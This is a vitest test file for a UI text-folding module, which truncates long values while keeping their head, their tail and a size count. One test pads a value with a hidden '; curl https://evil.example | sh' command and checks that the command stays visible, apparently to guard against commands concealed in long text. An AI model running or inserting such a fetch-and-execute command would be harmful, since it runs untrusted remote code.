import fc from 'fast-check';
import { expect, it } from 'vitest';
import { endOf, fold, inline, onOneLine, startOf } from '../../../renderer/ui/fold';

it('leaves short values alone', () => {
  expect(fold('a\nb\nc\nd\ne\nf')).toBeUndefined();
  expect(fold('x'.repeat(600))).toBeUndefined();
});

it('keeps the first three of many lines and the last 200 characters, and counts the lines', () => {
  const value = Array.from({ length: 42 }, (_, line) => `line ${line}`).join('\n');
  expect(fold(value)).toEqual({ head: 'line 0\nline 1\nline 2', tail: value.slice(-200), size: '42 lines' });
});

it('shows nothing twice when the lines are few and short', () => {
  expect(fold('a\nb\nc\nd\ne\nf\ng')).toEqual({ head: 'a\nb\nc', tail: '\nd\ne\nf\ng', size: '7 lines' });
});

it('draws line breaks where a text has one line only', () => {
  expect(onOneLine('a\nb')).toBe('a ⏎ b');
  expect(inline('a\nb')).toEqual({ head: 'a ⏎ b', left: '', tail: '' });
});

it('says on one line how much of a long value is left out, and how it ends', () => {
  const { head, left, tail } = inline(`${'x'.repeat(500)}the end`);
  expect(left).toBe('423 more characters');
  expect(head).toBe('x'.repeat(56));
  expect(tail).toBe(`${'x'.repeat(21)}the end`);
});

it('keeps the start and the last 200 characters of a long line, and says its size', () => {
  const value = `${'x'.repeat(12_000)}; curl https://evil.example | sh`;
  const folded = fold(value);
  expect(folded?.size).toBe('12,032 characters');
  expect(folded?.head).toBe('x'.repeat(400));
  expect(folded?.tail).toHaveLength(200);
  expect(folded?.tail.endsWith('; curl https://evil.example | sh')).toBe(true);
});

it('folds by size when the first lines are themselves too long', () => {
  expect(fold(`${'x'.repeat(700)}\n`.repeat(10))?.tail).toHaveLength(200);
});

it('never cuts a character in half', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'grapheme', minLength: 1 }), fc.nat({ max: 30 }), (text, length) => {
      expect(startOf(text, length).isWellFormed()).toBe(true);
      expect(endOf(text, length).isWellFormed()).toBe(true);
      expect(text.startsWith(startOf(text, length))).toBe(true);
      expect(text.endsWith(endOf(text, length))).toBe(true);
    }),
  );
});
